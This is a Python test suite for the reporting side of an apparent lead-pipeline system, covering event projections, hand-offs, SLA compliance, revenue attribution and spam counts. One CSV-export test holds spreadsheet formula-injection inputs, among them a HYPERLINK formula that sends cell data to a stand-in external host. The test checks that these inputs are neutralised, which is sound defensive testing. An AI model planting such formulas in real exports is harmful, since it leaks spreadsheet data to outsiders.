import itertools
import uuid
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from leadpipe_common.events import (
    Attribution, LeadHandedOver, LeadQuarantined, LeadSlaBreached, LeadStageChanged, LeadTouched, LeadTouchRecorded,
    Touch,
)
from reporting.domain import (
    LIFECYCLE, AttributionTally, LeadCredit, LeadFacts, attribution_rows, breakdown_row, funnel_stages,
    in_order_moved, project, sla_row, spam_rows, won_revenue,
)

T0 = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
LEAD = uuid.UUID(int=1)
ADS = Attribution(utm_source="google", utm_campaign="brand", offer="demo")


def step(to, frm=None, minutes=0, **kw) -> tuple[uuid.UUID, datetime, LeadStageChanged]:
    at = T0 + timedelta(minutes=minutes)
    event = LeadStageChanged(lead_id=LEAD, from_stage=frm, to_stage=to, at=at, by="t",
                             reason="r", attribution=kw.pop("attribution", ADS), **kw)
    return uuid.uuid5(LEAD, to), at, event


def recorded(event, minutes=0) -> tuple[uuid.UUID, datetime, object]:
    """An event as the stream holds it: a fresh id, recorded ``minutes`` after T0."""
    return uuid.uuid4(), T0 + timedelta(minutes=minutes), event


HISTORY = [step("captured"), step("enriched", "captured", 1), step("mql", "enriched", 2),
           step("routed", "mql", 3, owner_id="ana", team="emea", due_at=T0 + timedelta(minutes=18)),
           step("accepted", "routed", 10), step("won", "accepted", 60, amount=Decimal("900.00"), currency="EUR")]


def fold(events) -> LeadFacts:
    return project(events).leads[LEAD]


def test_a_won_lead_reached_every_funnel_stage_even_those_never_recorded():
    facts = fold(HISTORY)
    assert facts.furthest == 6  # won; "qualified" was never reported, yet it is counted as reached
    assert (facts.won_amount, facts.won_currency) == (Decimal("900.00"), "EUR")
    assert facts.attribution["utm_campaign"] == "brand"


def test_the_projection_does_not_depend_on_order_or_repetition():
    forwards = fold(HISTORY).row()
    backwards = fold(list(reversed(HISTORY)) + HISTORY[:2]).row()
    assert forwards == backwards


def corrected(amount, currency="EUR", number=1, minutes=70, previous=("900.00", "EUR")):
    """A correction of HISTORY's won deal, recorded ``minutes`` after T0."""
    from leadpipe_common.events import LeadWonAmountCorrected

    return recorded(LeadWonAmountCorrected(
        lead_id=LEAD, amount=Decimal(amount), currency=currency, previous_amount=Decimal(previous[0]),
        previous_currency=previous[1], correction=number, at=T0 + timedelta(minutes=minutes), by="ana",
        reason=f"won amount corrected by Ana: {previous[0]} {previous[1]} -> {amount} {currency}", owner_id="ana",
        team="emea", grade="A", attribution=ADS), minutes=minutes)


def test_a_corrected_won_deal_counts_at_its_latest_correction_whatever_order_the_events_are_folded_in():
    """900 EUR, corrected to 90 EUR, then to 90 USD: the second correction stands for the deal, even folded before
    the first, or before the win itself, and again after both (a replay, a redelivery)."""
    first, second = corrected("90.00"), corrected("90.00", "USD", number=2, minutes=80, previous=("90.00", "EUR"))
    orders = [[*HISTORY, first, second], [*HISTORY[:5], second, first, HISTORY[5]], [second, *HISTORY, first],
              [*HISTORY, first, second, first, HISTORY[5]]]
    rows = [fold(events).row() for events in orders]
    assert all(row == rows[0] for row in rows)
    assert (rows[0]["won_amount"], rows[0]["won_currency"], rows[0]["won_correction"]) == (Decimal("90.00"), "USD", 2)
    assert rows[0]["won_at"] == T0 + timedelta(minutes=60) and rows[0]["furthest"] == 6  # won once, when it was


def dated(event, minutes):
    """``event`` as a sales tool dated it: ``minutes`` after T0, whenever leadpipe recorded it."""
    event_id, recorded_at, e = event
    return event_id, recorded_at, e.model_copy(update={"at": T0 + timedelta(minutes=minutes)})


#: HISTORY's win and two corrections of it, the second dated by the sales tool before the win (recorded after it).
WIN_AND_CORRECTIONS = {"win": HISTORY[5], "c1": corrected("90.00"),
                       "c2": dated(corrected("90.00", "USD", number=2, minutes=80, previous=("90.00", "EUR")), 55)}


def one_a_batch(events) -> LeadFacts:
    """``events`` folded each in a batch of its own, each batch's facts merged into what was kept before, as the
    store's upsert merges them (``LeadFacts.merge`` is its rule)."""
    kept = LeadFacts(LEAD)
    for event in events:
        kept.merge(project([event]).leads[LEAD])
    return kept


@pytest.mark.parametrize("order", list(itertools.permutations(WIN_AND_CORRECTIONS)), ids="-".join)
def test_a_won_deal_and_its_two_corrections_give_one_row_in_whichever_order_they_arrive(order):
    """routing sends a win and its corrections by two paths (its outbox, its consumer), so any may overtake another:
    a correction applied before its win must not be overwritten by the win arriving after it. The highest
    correction's amount is in force, the win (correction 0 in effect) dates the lead won; in one batch or one a
    batch, as the live consumer and a replay each may fold them."""
    events = [*HISTORY[:5], *(WIN_AND_CORRECTIONS[name] for name in order)]
    in_order = fold([*HISTORY[:5], *WIN_AND_CORRECTIONS.values()]).row()
    assert fold(events).row() == one_a_batch(events).row() == in_order
    assert (in_order["won_amount"], in_order["won_currency"], in_order["won_correction"]) == (
        Decimal("90.00"), "USD", 2)
    assert (in_order["won_at"], in_order["furthest"], in_order["latest_to_stage"]) == (
        T0 + timedelta(minutes=60), 6, "won")


def test_a_correction_that_comes_before_its_win_holds_the_amount_for_the_win_and_wins_nothing_itself():
    """Until the win arrives the lead is where it was (accepted): not won, at no won time, so no report counts it
    won or its amount as revenue (they count won leads'); the correction is on its timeline."""
    facts = one_a_batch([*HISTORY[:5], WIN_AND_CORRECTIONS["c1"]])
    assert (facts.won_amount, facts.won_currency, facts.won_correction) == (Decimal("90.00"), "EUR", 1)
    assert ("won" not in facts.first_at, facts.furthest, facts.latest.to_stage) == (True, 4, "accepted")


def test_a_won_deals_correction_is_on_the_timeline_and_moves_no_stage():
    projection = project([*HISTORY, corrected("90.00")])
    [step] = [s for s in projection.steps if s["type"] == "lead.won_amount_corrected"]
    assert (step["to_stage"], step["from_stage"], step["by"], step["detail"]["amount"],
            step["detail"]["previous_amount"], step["detail"]["correction"]) == (
        "won_amount_corrected", None, "ana", "90.00", "900.00", 1)
    assert projection.leads[LEAD].latest.to_stage == "won"


def test_two_steps_recorded_at_one_moment_have_one_latest_whatever_order_they_are_folded_in():
    """Routing records a rejection and the way back to nurture at one moment: the rejection, after nurture in
    ``LIFECYCLE``, is the latest (the funnel counts either as rejected)."""
    rejected = [*HISTORY[:4], step("rejected", "routed", 10, reason_code="not-a-fit"), step("nurture", "rejected", 10)]
    for events in (rejected, list(reversed(rejected))):
        row = fold(events).row()
        assert (row["latest_from_stage"], row["latest_to_stage"]) == ("routed", "rejected")


@pytest.mark.parametrize("chain", [
    ("nurture", "mql"),  # scoring: a first score, and a touch in the same batch lifting the lead to MQL
    ("mql", "routed"),  # routing: a recycle, and the lead's routing
    ("accepted", "contacted", "qualified", "won"),  # a batch of one lead's sales reports, none dated
])
def test_a_chain_of_steps_recorded_at_one_moment_leaves_the_lead_at_its_end_whatever_order_they_are_folded_in(
        chain):
    """A stage stamps every step of one batch with one time (recorded and own): the lead is where the last left it,
    not at a stage it already left."""
    first = {"nurture": "enriched", "mql": "nurture", "accepted": "routed"}[chain[0]]
    steps = [step(to, frm, 5) for frm, to in zip((first, *chain), chain, strict=False)]
    for events in (steps, list(reversed(steps))):
        assert fold([*HISTORY[:2], *events]).latest.to_stage == chain[-1]


def test_a_leads_latest_step_is_the_one_recorded_last_even_when_dated_earlier():
    """The sales tool's clock is behind: its acceptance, recorded after the lead was routed, is dated before."""
    routed = step("routed", "mql", 3, owner_id="ana", team="emea", due_at=T0 + timedelta(minutes=18))
    accepted = recorded(LeadStageChanged(lead_id=LEAD, from_stage="routed", to_stage="accepted", at=T0, by="t",
                                         reason="r", attribution=ADS), minutes=5)
    for events in ([routed, accepted], [accepted, routed]):
        row = fold(events).row()
        assert (row["latest_to_stage"], row["latest_at"], row["latest_recorded_at"]) == (
            "accepted", T0, T0 + timedelta(minutes=5))


def test_a_step_outside_the_kept_stages_does_not_move_a_lead():
    assert fold([step("captured"), step("deadlettered", "captured", 5)]).latest.to_stage == "captured"


def test_a_dead_letter_step_without_attribution_does_not_erase_the_first_touch():
    facts = fold([step("captured"), step("deadlettered", attribution=Attribution())])
    assert facts.attribution["utm_source"] == "google" and facts.furthest == 0


def test_a_captured_leads_first_touch_is_its_capture_whole_never_filled_in_by_a_later_event():
    facts = fold([step("captured", attribution=Attribution(utm_source="google")), step("accepted", "routed", 9)])
    assert (facts.attribution["utm_source"], facts.attribution["utm_campaign"], facts.attribution["offer"]) == (
        "google", None, None)


def test_a_breach_closes_one_holder_and_opens_the_next():
    due = T0 + timedelta(minutes=18)  # HISTORY's hand-off to ana
    breached = LeadSlaBreached(lead_id=LEAD, owner_id="ana", team="emea", grade="A", due_at=due, breached_at=due,
                               breach=1, action="reassigned", next_owner_id="ben", next_owner_name="Ben",
                               next_due_at=due + timedelta(minutes=15), attribution=ADS)
    handoffs = project([HISTORY[3], recorded(breached, minutes=18)]).handoffs
    assert [(h.owner_id, h.started_at, h.breached_at) for _, h in sorted(handoffs.items())] == [
        ("ana", T0 + timedelta(minutes=3), due), ("ben", due, None)]


def breached_to_ben(**kw) -> tuple[uuid.UUID, datetime, LeadSlaBreached]:
    """HISTORY's ana (emea) missed her 9:18 deadline: routing handed the lead to ben, due 9:33."""
    due = T0 + timedelta(minutes=18)
    return recorded(LeadSlaBreached(lead_id=LEAD, owner_id="ana", team="emea", grade="A", due_at=due, breached_at=due,
                                    breach=1, action="reassigned", next_owner_id="ben", next_owner_name="Ben",
                                    next_due_at=due + timedelta(minutes=15), attribution=ADS, **kw), minutes=18)


def test_a_breach_files_the_next_hand_off_under_the_team_routing_gave_it_not_the_missed_holders():
    """Ben is of dach, emea's overflow: his hand-off is dach's, ana's miss stays emea's."""
    handoffs = project([HISTORY[3], breached_to_ben(next_team="dach")]).handoffs
    assert [(h.owner_id, h.team) for _, h in sorted(handoffs.items())] == [("ana", "emea"), ("ben", "dach")]


def test_a_v1_breach_files_the_next_hand_off_under_the_missed_holders_team_for_want_of_another():
    handoffs = project([HISTORY[3], breached_to_ben()]).handoffs
    assert handoffs[(LEAD, "ben", T0 + timedelta(minutes=33))].team == "emea"


def test_a_hand_off_named_with_two_teams_keeps_one_whatever_order_the_events_are_folded_in():
    """A v1 breach guessed emea for ben's hand-off; its own breach later says dach. The database keeps the first
    team by name whatever came first (``store._MERGE_HANDOFFS``); so must a replay's batch, or the two differ."""
    due = T0 + timedelta(minutes=33)
    his = recorded(LeadSlaBreached(lead_id=LEAD, owner_id="ben", team="dach", grade="A", due_at=due, breached_at=due,
                                   breach=2, action="escalated", next_owner_id="emea", next_owner_name="EMEA queue",
                                   next_due_at=None, attribution=ADS), minutes=33)
    events = [breached_to_ben(), his]
    for folded in (events, list(reversed(events))):
        assert project(folded).handoffs[(LEAD, "ben", due)].team == "dach"


def handed(stage, due_at, minutes=9, from_due_at=T0 + timedelta(minutes=18)):
    """HISTORY's lead, held by ana (due 9:18 while unaccepted), handed to ben ``minutes`` after T0."""
    from leadpipe_common.events import LeadHandedOver

    at = T0 + timedelta(minutes=minutes)
    return recorded(LeadHandedOver(
        lead_id=LEAD, from_owner_id="ana", from_team="emea", from_due_at=from_due_at if stage == "routed" else None,
        owner_id="ben", owner_name="Ben", team="emea", stage=stage, at=at, by="sales-ops",
        reason="handed over from ana by sales-ops: left", due_at=due_at, grade="A", attribution=ADS), minutes=minutes)


def test_a_hand_over_is_on_the_timeline_opens_the_new_holders_hand_off_when_unaccepted_and_moves_no_stage():
    new_due = T0 + timedelta(minutes=24)
    unaccepted = project([*HISTORY[:4], handed("routed", new_due)])
    assert [(h.owner_id, h.due_at, h.started_at) for _, h in sorted(unaccepted.handoffs.items())] == [
        ("ana", T0 + timedelta(minutes=18), T0 + timedelta(minutes=3)), ("ben", new_due, T0 + timedelta(minutes=9))]
    assert unaccepted.leads[LEAD].latest.to_stage == "routed" and unaccepted.leads[LEAD].furthest == 3
    [step] = [s for s in unaccepted.steps if s["type"] == "lead.handed_over"]
    assert (step["to_stage"], step["by"], step["reason"], step["detail"]["from_owner_id"]) == (
        "handed_over", "sales-ops", "handed to Ben: handed over from ana by sales-ops: left", "ana")
    accepted = project([*HISTORY[:5], handed("accepted", None)])
    assert [h.owner_id for h in accepted.handoffs.values()] == ["ana"]  # no deadline: no hand-off to judge
    assert accepted.leads[LEAD].latest.to_stage == "accepted"


def test_a_hand_over_ends_the_holders_hand_off_whatever_order_the_events_are_folded_in():
    """Ana, due 9:18, is handed over at 9:05; Ben is due 9:20. Ana's hand-off ends there: the SLA report answers
    it only with what was recorded before, and counts it neither met nor missed (``reports.sla``)."""
    events = [HISTORY[3], handed("routed", T0 + timedelta(minutes=20), minutes=5)]
    expected = [("ana", T0 + timedelta(minutes=3), T0 + timedelta(minutes=5)), ("ben", T0 + timedelta(minutes=5), None)]
    for folded in (events, list(reversed(events)), events + events):
        handoffs = project(folded).handoffs
        assert [(h.owner_id, h.started_at, h.handed_over_at) for _, h in sorted(handoffs.items())] == expected
        assert handoffs[(LEAD, "ana", T0 + timedelta(minutes=18))].row()["handed_over_at"] == T0 + timedelta(minutes=5)


def test_two_holders_with_one_deadline_have_a_hand_off_each_whatever_order_the_events_are_folded_in():
    """Routed to ana on Friday at 18:30, due Monday at 9:15; handed over to ben on Saturday, due Monday at 9:15
    too. Keyed by lead and deadline alone, one row was kept: ana's live, ben's by a replay (one batch)."""
    friday = datetime(2026, 11, 20, 18, 30, tzinfo=UTC)
    saturday, monday = friday + timedelta(hours=16), datetime(2026, 11, 23, 9, 15, tzinfo=UTC)
    routed = (uuid.uuid4(), friday, LeadStageChanged(
        lead_id=LEAD, from_stage="mql", to_stage="routed", at=friday, by="t", reason="r", attribution=ADS,
        owner_id="ana", team="emea", due_at=monday))
    handed_over = (uuid.uuid4(), saturday, LeadHandedOver(
        lead_id=LEAD, from_owner_id="ana", from_team="emea", from_due_at=monday, owner_id="ben", owner_name="Ben",
        team="emea", stage="routed", at=saturday, by="sales-ops", reason="ana left", due_at=monday, grade="A",
        attribution=ADS))
    for events in ([routed, handed_over], [handed_over, routed]):
        handoffs = project(events).handoffs
        assert [(h.owner_id, h.due_at, h.started_at, h.handed_over_at) for _, h in sorted(handoffs.items())] == [
            ("ana", monday, friday, saturday), ("ben", monday, saturday, None)]


def test_a_recycled_leads_second_hand_off_is_a_hand_off_of_its_own():
    """Rejected, sent back by a touch, routed again: two hand-offs, whatever order the events are folded in."""
    second_due = T0 + timedelta(days=3, minutes=18)
    recycled = [*HISTORY[:4], step("rejected", "routed", 10, reason_code="not-a-fit"),
                step("nurture", "rejected", 10), step("mql", "nurture", 3 * 24 * 60),
                step("routed", "mql", 3 * 24 * 60 + 3, owner_id="ben", team="emea", due_at=second_due)]

    def holders(events):
        return {key: (h.owner_id, h.started_at) for key, h in project(events).handoffs.items()}

    assert holders(recycled) == holders(list(reversed(recycled))) == {
        (LEAD, "ana", T0 + timedelta(minutes=18)): ("ana", T0 + timedelta(minutes=3)),
        (LEAD, "ben", second_due): ("ben", T0 + timedelta(days=3, minutes=3))}


def before_0005() -> list[tuple[uuid.UUID, datetime, LeadStageChanged]]:
    """Routed to ana, whose tool (its clock four minutes behind) dates her acceptance before the hand-off and her
    rejection before it was recorded; routing sends the lead back to nurture at that moment. All applied before
    reporting kept recorded times (0005)."""
    def later(event_step, minutes):  # noqa: ANN001, ANN202
        event_id, _, event = event_step
        return event_id, T0 + timedelta(minutes=minutes), event

    return [*HISTORY[:4], later(step("accepted", "routed", 1), 7),
            later(step("rejected", "accepted", 5, reason_code="not-a-fit"), 9),
            later(step("nurture", "rejected", 5), 9)]


def test_a_step_applied_before_0005_applied_again_leaves_its_leads_row_as_it_was():
    """0008 filled in the lead's latest step from steps ordered by their own time (they had no other): the
    rejection. ana's acceptance, redelivered with the time it was recorded (after the rejection's own), must not
    take its place, alone or with the rest of the tail, nor move the rejection's recorded time."""
    events = before_0005()
    stored = fold([(event_id, e.at, e) for event_id, _, e in events])  # as 0008 ordered them: by their own time
    kept = stored.row()
    assert (kept["latest_from_stage"], kept["latest_to_stage"], kept["latest_recorded_at"]) == (
        "accepted", "rejected", T0 + timedelta(minutes=5))
    held = {event_id for event_id, _, _ in events}
    for redelivered in ([events[4]], events[3:]):
        stored.merge(project(redelivered, held).leads[LEAD])
        assert stored.row() == kept


def test_a_hand_off_applied_before_0005_applied_again_starts_no_clock():
    """Its answers were kept with their own time only: a start (the routed step's recorded time) would leave ana's
    acceptance, dated before it, answering nothing."""
    events = before_0005()
    routed = events[3]
    assert [h.started_at for h in project([routed], {routed[0]}).handoffs.values()] == [None]
    assert [h.started_at for h in project([routed]).handoffs.values()] == [T0 + timedelta(minutes=3)]


def test_conversion_is_each_stage_over_the_one_before():
    stages = funnel_stages({"captured": 10, "enriched": 10, "mql": 4, "routed": 4, "accepted": 2, "qualified": 0})
    assert [s["conversion"] for s in stages] == [None, 1.0, 0.4, 1.0, 0.5, 0.0, None]


def test_a_breakdown_row_carries_counts_rates_and_close_rate():
    row = breakdown_row("ads", {"captured": 3, "mql": 2, "won": 1})
    assert row["value"] == "ads" and row["mql_to_routed"] == 0.0 and row["close_rate"] == 0.3333


def test_revenue_is_kept_per_currency_and_rows_rank_by_wins():
    rows = attribution_rows(
        [{"value": "ads", "captured": 4, "won": 1}, {"value": "seo", "captured": 2, "won": 2}],
        [{"value": "seo", "currency": "USD", "revenue": Decimal("5")}, {"value": "seo", "currency": "EUR", "revenue": Decimal("7.5")}],
    )["rows"]
    assert [r["value"] for r in rows] == ["seo", "ads"]
    assert rows[0]["won_revenue"] == {"EUR": "7.50", "USD": "5.00"} and rows[0]["close_rate"] == 1.0


def test_the_revenue_won_counts_values_past_the_rows_kept():
    report = attribution_rows(
        [{"value": "seo", "captured": 2, "won": 1}],
        [{"value": "seo", "currency": "EUR", "revenue": Decimal("7.5")},
         {"value": "left-out", "currency": "EUR", "revenue": Decimal("2.5")},
         {"value": "left-out", "currency": "USD", "revenue": Decimal("1")}])
    assert [r["value"] for r in report["rows"]] == ["seo"] and report["rows"][0]["won_revenue"] == {"EUR": "7.50"}
    assert report["won_revenue"] == {"EUR": "10.00", "USD": "1.00"}


def test_the_revenue_won_under_a_model_is_every_rows_credit_per_currency():
    rows = [{"won_revenue": {"EUR": "0.33", "USD": "1.00"}}, {"won_revenue": {"EUR": "0.67"}}, {"won_revenue": {}}]
    assert won_revenue(rows) == {"EUR": "1.00", "USD": "1.00"}


def test_sla_compliance_ignores_hand_offs_still_open():
    assert sla_row({"team": "emea"}, met=3, missed=1, open_=5, handed_over=0)["compliance"] == 0.75


def test_hand_offs_handed_over_before_their_deadline_are_counted_apart_and_in_no_compliance():
    row = sla_row({"team": "emea"}, met=3, missed=1, open_=0, handed_over=2)
    assert (row["handoffs"], row["handed_over"], row["compliance"]) == (6, 2, 0.75)


def test_a_csv_cell_a_spreadsheet_would_run_is_kept_as_text():
    from reporting.api import to_csv

    sent = ['=HYPERLINK("https://x.example/?"&A1)', "+1", "-2+3", "@SUM(A1)", "\tx", "google"]
    lines = to_csv([{"utm_source": v, "captured": 1} for v in sent]).splitlines()[1:]
    assert [line.split(",")[0].strip('"') for line in lines] == [
        "'=HYPERLINK(\"\"https://x.example/?\"\"&A1)", "'+1", "'-2+3", "'@SUM(A1)", "'\tx", "google"]


def test_a_quarantined_submission_is_counted_where_it_came_from_and_is_no_lead():
    bot = LeadQuarantined(lead_id=LEAD, received_at=T0, reasons=["the hidden field _gotcha was filled in"],
                          form_id="demo", utm_source="google")
    projection = project([recorded(bot), recorded(bot)])
    assert projection.spam == {LEAD: {"lead_id": LEAD, "received_at": T0, "form_id": "demo", "utm_source": "google"}}
    assert projection.leads == {} and projection.steps == []  # not a lead


def test_spam_is_what_was_quarantined_less_what_an_admin_released():
    report = spam_rows([{"form_id": "demo", "utm_source": "(none)", "quarantined": 3, "released": 1},
                        {"form_id": "(none)", "utm_source": "ads", "quarantined": 5, "released": 0}])
    assert report["rows"] == [
        {"form_id": "(none)", "source": "ads", "quarantined": 5, "released": 0, "spam": 5},
        {"form_id": "demo", "source": "(none)", "quarantined": 3, "released": 1, "spam": 2}]
    assert (report["quarantined"], report["released"], report["spam"], report["false_positive_rate"]) == (8, 1, 7, 0.125)
    assert spam_rows([])["false_positive_rate"] is None


def test_spam_totals_count_the_forms_and_sources_left_out_of_the_rows():
    report = spam_rows([{"form_id": "demo", "utm_source": "ads", "quarantined": 3, "released": 1}], totals=(10, 2))
    assert [r["spam"] for r in report["rows"]] == [2]
    assert (report["quarantined"], report["released"], report["spam"], report["false_positive_rate"]) == (10, 2, 8, 0.2)


LATER_TOUCH = Touch(touch_id=uuid.uuid4(), at=T0 + timedelta(days=2),
                    attribution=Attribution(offer="demo", utm_source="ads", utm_campaign="spring"))


def test_a_later_touch_is_on_the_timeline_and_moves_no_stage():
    projection = project([*HISTORY[:1], recorded(LeadTouchRecorded(lead_id=LEAD, attribution=ADS,
                                                                   touch=LATER_TOUCH))])
    assert projection.leads[LEAD].furthest == 0
    [step] = [s for s in projection.steps if s["to_stage"] == "touched"]
    assert (step["at"], step["reason"], step["detail"]["offer"]) == (LATER_TOUCH.at, "asked for demo via ads", "demo")
    assert list(projection.touches) == [(LEAD, LEAD), (LEAD, LATER_TOUCH.touch_id)]


def test_a_touch_without_the_persons_contact_gives_the_facts_an_earlier_versions_lead_touched_gave():
    """The lifecycle's touch left the contact behind: the timeline, the touches attribution credits and the lead
    are what they were (but the step's type, which names the event it came from)."""
    earlier = LeadTouched(lead_id=LEAD, captured_at=T0, attribution=ADS, touch=LATER_TOUCH, person_id=uuid.uuid4(),
                          contact={"email": "a@b.example", "phone": "+44 20 7946 0958", "message": "call me"})
    event_id = uuid.uuid4()
    then, now = (project([*HISTORY[:1], (event_id, LATER_TOUCH.at, e)])
                 for e in (earlier, LeadTouchRecorded(lead_id=LEAD, attribution=ADS, touch=LATER_TOUCH)))
    assert now.touches == then.touches and len(now.touches) == 2
    assert now.leads[LEAD].row() == then.leads[LEAD].row()
    assert [{**s, "type": "?"} for s in now.steps] == [{**s, "type": "?"} for s in then.steps]
    assert [s["type"] for s in now.steps] == ["lead.stage_changed", "lead.touch_recorded"]


DAY = timedelta(days=1)
CREDITED = [LeadCredit(touches=[(T0 + 2 * DAY, "newsletter"), (T0, "google"), (T0 + DAY, "linkedin")],
                       won_at=T0 + 1.5 * DAY, amount=Decimal("900.00"), currency="EUR"),  # the newsletter came later
            LeadCredit(touches=[(T0, "linkedin")])]


def test_each_attribution_model_shares_a_leads_credit_among_its_touches_up_to_the_win():
    def by_value(model):
        tally = AttributionTally(model)  # fed a lead at a time, as the report streams them
        for lead in CREDITED:
            tally.add(lead)
        return {r["value"]: (r["captured"], r["won"], r["won_revenue"], r["close_rate"]) for r in tally.rows()}

    assert by_value("first") == {"google": (1, 1, {"EUR": "900.00"}, 1.0), "linkedin": (1, 0, {}, 0.0)}
    assert by_value("last") == {"linkedin": (2, 1, {"EUR": "900.00"}, 0.5)}
    assert by_value("linear") == {"google": (0.5, 0.5, {"EUR": "450.00"}, 1.0),
                                  "linkedin": (1.5, 0.5, {"EUR": "450.00"}, 0.3333)}


def test_linear_revenue_is_shared_in_whole_cents_that_add_up_to_the_deal():
    """100.00 over three touches of three values: 33.34 + 33.33 + 33.33 (the first touched takes the odd cent);
    a value touched twice of three takes two thirds."""
    def linear(*values):
        tally = AttributionTally("linear")
        tally.add(LeadCredit(touches=[(T0 + n * DAY, v) for n, v in enumerate(values)], won_at=T0 + 9 * DAY,
                             amount=Decimal("100.00"), currency="EUR"))
        return {r["value"]: r["won_revenue"]["EUR"] for r in tally.rows()}

    assert linear("google", "linkedin", "newsletter") == {"google": "33.34", "linkedin": "33.33",
                                                          "newsletter": "33.33"}
    assert linear("linkedin", "google", "google") == {"google": "66.67", "linkedin": "33.33"}


def test_a_won_lead_whose_capture_is_unknown_is_credited_to_itself():
    """No touch on record and no capture known: the report gets the lead's own row, at no time."""
    for model in ("first", "last", "linear"):
        tally = AttributionTally(model)
        tally.add(LeadCredit(touches=[(None, "google")], won_at=T0, amount=Decimal("10.00"), currency="EUR"))
        assert [(r["value"], r["won"], r["won_revenue"]) for r in tally.rows()] == [("google", 1, {"EUR": "10.00"})]


def test_a_merge_is_recorded_and_shown_on_both_timelines():
    from leadpipe_common.events import LeadMerged

    survivor = uuid.UUID(int=2)
    merge = LeadMerged(lead_id=LEAD, survivor_id=survivor, at=T0, by="anna", reason="same person",
                       attribution=ADS)
    projection = project([recorded(merge)])
    assert projection.merges == [{"lead_id": LEAD, "survivor_id": survivor, "at": T0}]
    assert {s["lead_id"] for s in projection.steps if s["to_stage"] == "merged"} == {LEAD, survivor}


def test_a_timeline_lists_a_moments_steps_as_the_lead_moved_a_rejection_before_its_way_back_and_the_recycle_after():
    """By the lifecycle's order alone, rejected -> nurture came before accepted -> rejected, and a recycle's
    nurture -> mql -> routed before both: routing records a batch's steps at one moment."""
    later = ["queued"]
    moved = [("accepted", "rejected"), ("rejected", "nurture"), ("nurture", "mql"), ("mql", "routed"),
             (None, "queued")]
    rows = [{"at": T0, "from_stage": a, "to_stage": b} for a, b in moved]
    by_stage = sorted(rows, key=lambda r: [*LIFECYCLE, *later].index(r["to_stage"]))  # as the query gives them
    assert [(r["from_stage"], r["to_stage"]) for r in by_stage] != moved
    assert [(r["from_stage"], r["to_stage"]) for r in in_order_moved(by_stage)] == moved
    earlier = {"at": T0 - timedelta(days=1), "from_stage": None, "to_stage": "captured"}
    assert in_order_moved([earlier, *by_stage])[0] is earlier  # moments stay oldest first

